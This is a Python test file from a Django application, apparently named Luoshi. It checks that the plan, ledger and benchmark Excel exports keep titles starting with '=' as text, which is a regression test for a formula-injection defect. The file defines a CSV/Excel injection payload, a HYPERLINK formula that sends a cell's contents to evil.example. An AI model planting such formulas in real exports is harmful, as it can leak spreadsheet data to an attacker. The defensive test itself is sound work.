"""Issue defect 3: a title starting with "=" was a live formula in the plan and ledger exports, and a liaison
could plant one in the supervisor's export through a blocker. Every workbook Luoshi writes keeps such text as
text: no cell holds a formula (the 合计 figures are computed, not summed in the sheet)."""

from collections.abc import Callable
from io import BytesIO

import openpyxl
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from luoshi.assessment.models import Benchmark
from luoshi.assessment.tests.test_benchmark_views import benchmark  # noqa: F401  (fixture)
from luoshi.conftest import World
from luoshi.projects.tests.conftest import (
    Ledger,
    ledger,  # noqa: F401  (fixture)
)

EVIL = '=HYPERLINK("http://evil.example/"&D6,"x")'


def _cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_only(content: bytes, expected: int) -> None:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert sum(1 for c in cells if c.value == EVIL and c.data_type == "s") == expected


def test_plan_export(world: World, login: Callable[[User], Client]) -> None:
    world.plan.title = EVIL
    world.plan.save(update_fields=["title"])
    world.item_a.code, world.item_a.goal = "", EVIL
    world.item_a.save(update_fields=["code", "goal"])
    response = login(world.user("supervisor")).get(
        reverse("plans:plan_export", args=[world.zone.code, world.plan.pk])
    )
    _assert_text_only(response.content, expected=2)


def test_ledger_export_with_a_blocker_planted_by_a_liaison(
    world: World,
    login: Callable[[User], Client],
    ledger: Ledger,  # noqa: F811
) -> None:
    ledger.factory.name = EVIL
    ledger.factory.save(update_fields=["name"])
    ledger.blocker.description = EVIL
    ledger.blocker.save(update_fields=["description"])
    response = login(world.user("supervisor")).get(
        reverse("projects:ledger_export", args=[world.zone.code]) + "?year=2026"
    )
    _assert_text_only(response.content, expected=2)


def test_gap_export(world: World, login: Callable[[User], Client], benchmark: Benchmark) -> None:  # noqa: F811
    rival = next(name for name in benchmark.rows if name != benchmark.own_name)
    benchmark.rows = {(EVIL if name == rival else name): row for name, row in benchmark.rows.items()}
    benchmark.save(update_fields=["rows"])
    benchmark.scheme.name = EVIL
    benchmark.scheme.save(update_fields=["name"])
    response = login(world.user("supervisor")).get(
        reverse("assessment:benchmark_export", args=[world.zone.code, benchmark.pk]), {"target": "10"}
    )
    assert response.status_code == 200
    _assert_text_only(response.content, expected=1)
    assert any(c.value.startswith(EVIL + " · ") for c in _cells(response.content) if isinstance(c.value, str))
